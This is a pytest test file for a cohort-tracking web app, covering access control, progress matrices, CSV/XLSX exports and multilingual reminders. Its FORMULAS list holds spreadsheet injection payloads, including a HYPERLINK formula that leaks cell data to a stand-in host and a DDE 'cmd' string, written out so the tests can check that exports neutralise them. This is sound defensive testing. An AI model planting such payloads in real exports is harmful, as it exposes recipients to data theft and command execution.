"""Facilitators follow their own cohorts: matrix, filters, exports, organisations, reminders."""

import csv
import io
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.accounts.models import Role, User
from app.extensions import db
from app.learning.models import StepCompletion
from app.mail.models import OutboxEmail
from app.organisations.models import Cohort, CohortCourse, Exchange, Organisation
from tests.conftest import count_queries, sign_in_as


@pytest.fixture
def setup(create_user, create_cohort, create_participant, create_organisation):
    """Two cohorts with their own facilitators; participants behind and on track."""
    lead = create_user(Role.FACILITATOR, name="Lead Facilitator")
    other_lead = create_user(Role.FACILITATOR)
    kampala = create_organisation(name="Kampala Youth Media Centre")
    forde = create_organisation(name="Førde Folkehøgskule")
    hanoi = create_organisation(name="Hanoi Green Schools")
    mine = create_cohort(name="Spring", facilitators=[lead])
    theirs = create_cohort(name="Autumn", facilitators=[other_lead])
    behind = create_participant(
        mine, phase="mid", home=forde, host=kampala, name="Amina Behind", locale="nn"
    )
    fresh = create_participant(
        mine, phase="pre", home=hanoi, host=forde, name="Minh Fresh", locale="fr"
    )
    stranger = create_participant(
        theirs, phase="mid", home=hanoi, host=kampala, name="Other Cohort"
    )
    return {
        "lead": lead,
        "other_lead": other_lead,
        "mine": mine,
        "theirs": theirs,
        "behind": behind,
        "fresh": fresh,
        "stranger": stranger,
        "kampala": kampala,
        "forde": forde,
        "hanoi": hanoi,
    }


def complete_module(app, user, module) -> None:
    """Mark every step of a preparatory module done for `user`."""
    with app.app_context():
        for step_id in module.step_ids:
            db.session.add(
                StepCompletion(
                    user_id=user.id,
                    course_slug="preparatory",
                    module_slug=module.slug,
                    step_id=step_id,
                )
            )
        db.session.commit()


def urls(cohort_id, participant_id):
    return [
        f"/cohorts/{cohort_id}",
        f"/cohorts/{cohort_id}/export.csv",
        f"/cohorts/{cohort_id}/export.xlsx",
        f"/cohorts/{cohort_id}/organisations",
        f"/cohorts/{cohort_id}/participants/{participant_id}",
        f"/cohorts/{cohort_id}/reminders",
        f"/cohorts/{cohort_id}/manage",
    ]


def test_a_facilitator_sees_their_cohort_and_not_another(client, setup):
    sign_in_as(client, setup["lead"])
    for url in urls(setup["mine"].id, setup["behind"].id):
        assert client.get(url).status_code == 200, url
    for url in urls(setup["theirs"].id, setup["stranger"].id):
        assert client.get(url).status_code == 404, url
    # A participant of another cohort, asked for through my cohort's URL.
    assert (
        client.get(f"/cohorts/{setup['mine'].id}/participants/{setup['stranger'].id}").status_code
        == 404
    )
    for post in (
        f"/cohorts/{setup['theirs'].id}/reminders",
        f"/cohorts/{setup['theirs'].id}/courses/homecoming/open",
        f"/cohorts/{setup['theirs'].id}/manage",
    ):
        assert (
            client.post(post, data={"participant_ids": [setup["stranger"].id]}).status_code == 404
        )


@pytest.mark.parametrize("role", [Role.PARTICIPANT, Role.PARTNER])
def test_participants_and_partner_contacts_cannot_reach_follow_up_pages(
    client, setup, create_user, role
):
    sign_in_as(client, create_user(role, organisation=setup["kampala"]))
    for url in [*urls(setup["mine"].id, setup["behind"].id), "/cohorts", "/cohorts/new"]:
        assert client.get(url).status_code == 404, url


def test_the_matrix_shows_statuses_with_words_and_flags_overdue(app, client, setup, catalog):
    # Amina is in the middle of her exchange with the preparatory course untouched: overdue.
    sign_in_as(client, setup["lead"])
    page = client.get(f"/cohorts/{setup['mine'].id}").text
    assert "Amina Behind" in page and "Minh Fresh" in page and "Other Cohort" not in page
    amina_row = page.split("Amina Behind")[1].split("</tr>")[0]
    assert "Overdue" in amina_row
    minh_row = page.split("Minh Fresh")[1].split("</tr>")[0]
    assert "Overdue" not in minh_row and "Not started" in minh_row


def test_filters_swap_the_table_with_htmx_and_work_as_a_plain_form(client, setup):
    sign_in_as(client, setup["lead"])
    url = f"/cohorts/{setup['mine'].id}?organisation={setup['hanoi'].id}"
    full = client.get(url)
    assert "<html" in full.text and "Minh Fresh" in full.text and "Amina Behind" not in full.text
    fragment = client.get(url, headers={"HX-Request": "true", "HX-Target": "matrix"})
    assert "<html" not in fragment.text and fragment.text.lstrip().startswith('<div id="matrix">')
    assert "Minh Fresh" in fragment.text and "Amina Behind" not in fragment.text
    overdue = client.get(f"/cohorts/{setup['mine'].id}?status=overdue").text
    assert "Amina Behind" in overdue and "Minh Fresh" not in overdue


def test_sorting_by_progress_puts_the_least_advanced_first(app, client, setup, catalog):
    module = catalog.course("preparatory").modules[0]
    complete_module(app, setup["behind"], module)
    sign_in_as(client, setup["lead"])
    page = client.get(f"/cohorts/{setup['mine'].id}?sort=progress").text
    assert page.index("Minh Fresh") < page.index("Amina Behind")


def test_csv_and_xlsx_exports_contain_exactly_what_is_shown(client, setup, catalog):
    sign_in_as(client, setup["lead"])
    query = f"?organisation={setup['kampala'].id}&phase=pre"
    csv_response = client.get(f"/cohorts/{setup['mine'].id}/export.csv{query}")
    assert csv_response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(csv_response.data.decode("utf-8-sig"))))
    pre_modules = catalog.course("preparatory").modules
    assert rows[0][:2] == ["Participant", "Email"]
    assert rows[0][6:] == [m.localized("en").title for m in pre_modules]
    assert [r[0] for r in rows[1:]] == ["Amina Behind"]
    assert rows[1][6:] == ["Overdue"] * len(pre_modules)

    xlsx = client.get(f"/cohorts/{setup['mine'].id}/export.xlsx{query}")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    assert values[1][0] == "Amina Behind" and values[1][6:] == rows[1][6:]
    assert len(values) == 2


FORMULAS = [
    '=HYPERLINK("http://x/?"&B3,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_a_spreadsheet_cell_starting_like_a_formula_gets_a_quote_first():
    from app.spreadsheets import spreadsheet_cell

    for text in [*FORMULAS, "\t=1+1", "\r=1+1"]:
        assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("Amina = 1") == "Amina = 1"
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None


def test_exports_neutralise_cells_that_a_spreadsheet_would_run_as_formulas(
    app, client, create_user, create_cohort, create_participant, create_organisation
):
    lead = create_user(Role.FACILITATOR)
    cohort = create_cohort(name="Formulas", facilitators=[lead])
    home = create_organisation(name="=1+2 Home")
    for name in FORMULAS:
        create_participant(cohort, name=name, home=home)
    sign_in_as(client, lead)
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(f"/cohorts/{cohort.id}/export.csv").data.decode("utf-8-sig"),
                newline="",
            )
        )
    )
    names = sorted(r[0] for r in rows[1:])
    assert names == sorted("'" + name for name in FORMULAS)
    assert {r[2] for r in rows[1:]} == {"'=1+2 Home"}

    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/export.xlsx").data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(cell.value for cell in cells) == names
    # Numbers stay numbers (the progress column): only text is touched.
    assert all(isinstance(row[5].value, int) for row in sheet.iter_rows(min_row=2))


def test_a_second_exchange_replaces_the_first_in_the_cohort_pages(
    app, client, setup, create_organisation
):
    """A participant who goes out again is shown with the latest exchange only."""
    from app.organisations.services import exchange_create

    lima = create_organisation(name="Lima Youth Network")
    with app.app_context():
        exchange_create(
            participant=db.session.get(User, setup["behind"].id),
            home=db.session.get(Organisation, lima.id),
            host=db.session.get(Organisation, setup["hanoi"].id),
            departs_on=date.today() + timedelta(days=400),
            returns_on=date.today() + timedelta(days=700),
        )
        db.session.commit()
    sign_in_as(client, setup["lead"])
    mine = setup["mine"].id
    overview = client.get(f"/cohorts/{mine}").text
    assert "Amina Behind" in overview and "Lima Youth Network" in overview
    by_lima = client.get(f"/cohorts/{mine}?organisation={lima.id}").text
    by_kampala = client.get(f"/cohorts/{mine}?organisation={setup['kampala'].id}").text
    assert "Amina Behind" in by_lima and "Amina Behind" not in by_kampala
    organisations = client.get(f"/cohorts/{mine}/organisations").text
    assert "<h2>Lima Youth Network</h2>" in organisations
    assert "<h2>Kampala Youth Media Centre</h2>" not in organisations


def test_the_organisation_view_has_a_chart_each_and_the_figures_once_in_one_table(
    app, client, setup, catalog
):
    module = catalog.course("preparatory").modules[0]
    complete_module(app, setup["fresh"], module)
    sign_in_as(client, setup["lead"])
    page = client.get(f"/cohorts/{setup['mine'].id}/organisations").text
    total = catalog.course("preparatory").step_count
    percent = round(100 * len(module.step_ids) / total)
    hanoi = page.split("<h2>Hanoi Green Schools</h2>")[1].split("</section>")[0]
    # The chart's bars carry their figures as text, and no table repeats them here.
    assert f'<progress max="100" value="{percent}"' in hanoi
    assert f"{percent}&nbsp;%" in hanoi and "<table" not in hanoi
    # Every organisation's figures are in one table, folded, after the charts.
    assert page.count("<table") == 1
    table = page.split('<details class="all-figures">')[1].split("</details>")[0]
    hanoi_row = table.split("Hanoi Green Schools</th>")[1].split("</tr>")[0]
    assert f"<td>{percent}&nbsp;%</td>" in hanoi_row
    # Both sides of Amina's exchange appear: the sending and the hosting organisation.
    assert "Førde Folkehøgskule" in page and "Kampala Youth Media Centre" in page


def test_participant_detail_shows_progress_answers_and_goals(app, client, setup, catalog):
    from tests.exercises.helpers import find, url

    sign_in_as(client, setup["behind"])
    course, module, step, _ex = find(catalog, "goals", stage="set")
    client.post(
        url(course, module, step), data={"goal-1": "Facilitate a workshop", "rating-1": "2"}
    )
    sign_in_as(client, setup["lead"])
    page = client.get(f"/cohorts/{setup['mine'].id}/participants/{setup['behind'].id}").text
    assert "Facilitate a workshop" in page
    # The answer is listed under its module, by its question, not by an internal id.
    assert " ".join(_ex["prompt"].split()) in page and f">{_ex.id}<" not in page
    assert "Progress over time" in page


def test_reminders_go_to_the_chosen_participants_in_their_own_language(app, client, setup):
    sign_in_as(client, setup["lead"])
    form = client.post(f"/cohorts/{setup['mine'].id}/reminders", data={"select": "overdue"})
    assert f'value="{setup["behind"].id}" checked' in form.text
    assert f'value="{setup["fresh"].id}" checked' not in form.text
    response = client.post(
        f"/cohorts/{setup['mine'].id}/reminders",
        data={
            "participant_ids": [setup["behind"].id, setup["fresh"].id],
            "template": "behind",
            "message": "Ring meg om du treng hjelp.",
        },
    )
    assert response.status_code == 302
    with app.app_context():
        emails = {e.recipient: e for e in db.session.scalars(select(OutboxEmail))}
    assert set(emails) == {setup["behind"].email, setup["fresh"].email}
    assert emails[setup["behind"].email].language == "nn"
    assert emails[setup["fresh"].email].language == "fr"
    assert "Ring meg om du treng hjelp." in emails[setup["behind"].email].body


def test_a_reminder_needs_recipients_and_cannot_reach_another_cohort(app, client, setup):
    sign_in_as(client, setup["lead"])
    empty = client.post(f"/cohorts/{setup['mine'].id}/reminders", data={"template": "behind"})
    assert empty.status_code == 400 and "Choose at least one participant." in empty.text
    sneaky = client.post(
        f"/cohorts/{setup['mine'].id}/reminders",
        data={"participant_ids": [setup["stranger"].id], "template": "behind"},
    )
    assert sneaky.status_code == 400
    with app.app_context():
        assert db.session.scalar(select(OutboxEmail.id)) is None


def test_create_a_cohort_add_participants_and_open_a_phase_early(app, client, setup, create_user):
    sign_in_as(client, setup["lead"])
    today = date.today()
    response = client.post(
        "/cohorts/new",
        data={
            "name": "Winter",
            "courses": ["preparatory", "during-exchange"],
            "starts_on": today.isoformat(),
            "ends_on": (today + timedelta(days=200)).isoformat(),
        },
    )
    assert response.status_code == 302
    with app.app_context():
        winter = db.session.scalar(select(Cohort).where(Cohort.name == "Winter"))
        assert [cc.course_slug for cc in winter.courses] == ["preparatory", "during-exchange"]
        winter_id = winter.id
    newcomer = create_user(Role.PARTICIPANT, name="New Comer")
    assert (
        client.post(
            f"/cohorts/{winter_id}/manage", data={"participant_ids": [newcomer.id]}
        ).status_code
        == 302
    )
    assert "New Comer" in client.get(f"/cohorts/{winter_id}").text
    assert client.post(f"/cohorts/{winter_id}/courses/during-exchange/open").status_code == 302
    with app.app_context():
        opened = db.session.scalar(
            select(CohortCourse).where(
                CohortCourse.cohort_id == winter_id, CohortCourse.course_slug == "during-exchange"
            )
        )
        assert opened.opened_early_at is not None
    assert client.post(f"/cohorts/{winter_id}/courses/homecoming/open").status_code == 404


def test_opening_early_a_course_no_longer_in_the_course_files_is_a_404(
    client, create_user, create_cohort
):
    lead = create_user(Role.FACILITATOR)
    cohort = create_cohort(courses=["preparatory", "retired-course"], facilitators=[lead])
    sign_in_as(client, lead)
    assert client.post(f"/cohorts/{cohort.id}/courses/retired-course/open").status_code == 404


def test_cohort_dates_are_validated_and_typed_text_kept(client, setup):
    sign_in_as(client, setup["lead"])
    response = client.post(
        "/cohorts/new",
        data={
            "name": "Backwards",
            "courses": ["preparatory"],
            "starts_on": "2026-05-01",
            "ends_on": "2026-01-01",
        },
    )
    assert response.status_code == 400
    assert "The end date must be after the start date." in response.text
    assert 'value="Backwards"' in response.text


def add_participants(app, cohort, organisations, n, catalog):
    from app.organisations.models import CohortMember, MemberRole

    module = catalog.course("preparatory").modules[0]
    today = date.today()
    with app.app_context():
        for i in range(n):
            user = User(
                email=f"bulk{cohort.id}-{i}@example.org", name=f"Bulk {i}", role=Role.PARTICIPANT
            )
            db.session.add(user)
            db.session.flush()
            db.session.add(
                CohortMember(cohort_id=cohort.id, user_id=user.id, role=MemberRole.PARTICIPANT)
            )
            home, host = organisations[i % 2], organisations[(i + 1) % 2]
            db.session.add(
                Exchange(
                    participant_id=user.id,
                    home_organisation_id=home.id,
                    host_organisation_id=host.id,
                    departs_on=today - timedelta(days=10),
                    returns_on=today + timedelta(days=100),
                )
            )
            db.session.add(
                StepCompletion(
                    user_id=user.id,
                    course_slug="preparatory",
                    module_slug=module.slug,
                    step_id=module.step_ids[0],
                )
            )
        db.session.commit()


@pytest.mark.parametrize("page", ["", "/organisations", "/reminders", "/export.csv", "/manage"])
def test_pages_issue_the_same_number_of_queries_for_5_and_200_participants(
    app, client, create_user, create_cohort, create_organisation, catalog, page
):
    lead = create_user(Role.FACILITATOR)
    orgs = [create_organisation(), create_organisation()]
    small, large = create_cohort(facilitators=[lead]), create_cohort(facilitators=[lead])
    add_participants(app, small, orgs, 5, catalog)
    add_participants(app, large, orgs, 200, catalog)
    sign_in_as(client, lead)
    counts = []
    for cohort in (small, large):
        client.get(f"/cohorts/{cohort.id}{page}")  # warm up
        url = f"/cohorts/{cohort.id}{page}"
        counts.append(count_queries(app, lambda url=url: client.get(url).status_code == 200))
    assert counts[0] == counts[1], counts


def test_a_reminder_is_delivered_over_smtp_in_the_recipients_language(
    app, client, setup, smtp_server
):
    sign_in_as(client, setup["lead"])
    client.post(
        f"/cohorts/{setup['mine'].id}/reminders",
        data={"participant_ids": [setup["behind"].id], "template": "behind"},
    )
    result = app.test_cli_runner().invoke(args=["mail", "send"])
    assert "Sent 1, failed 0." in result.output
    [envelope] = smtp_server.messages
    message = envelope.content.decode()
    assert envelope.rcpt_tos == [setup["behind"].email]
    assert "Content-Language: nn" in message
    with app.app_context():
        row = db.session.scalar(select(OutboxEmail))
        assert row.status.value == "sent"


def test_the_reminders_form_shows_each_recipients_language_and_a_preview_per_language(
    app, client, setup
):
    sign_in_as(client, setup["lead"])
    form = client.get(f"/cohorts/{setup['mine'].id}/reminders").text
    amina = form.split("Amina Behind")[1].split("</li>")[0]
    assert "Norwegian Nynorsk" in amina
    minh = form.split("Minh Fresh")[1].split("</li>")[0]
    assert "French" in minh
    assert "not translated" in form
    note = "Ring meg om du treng hjelp."
    preview = client.post(
        f"/cohorts/{setup['mine'].id}/reminders",
        data={
            "participant_ids": [setup["behind"].id, setup["fresh"].id],
            "template": "behind",
            "message": note,
            "action": "preview",
        },
    )
    assert preview.status_code == 200
    page = preview.text
    # One preview per language, each in that language, the note in it as written.
    nn = page.split('<section class="email-preview" lang="nn">')[1].split("</section>")[0]
    fr = page.split('<section class="email-preview" lang="fr">')[1].split("</section>")[0]
    assert "Hei Amina Behind," in nn and note in nn
    assert "Bonjour Minh Fresh" in fr and note in fr
    # What was typed and chosen is kept; nothing is queued by a preview.
    assert note in page.split("</textarea>")[0]
    assert f'value="{setup["behind"].id}" checked' in page
    with app.app_context():
        assert db.session.scalar(select(OutboxEmail.id)) is None
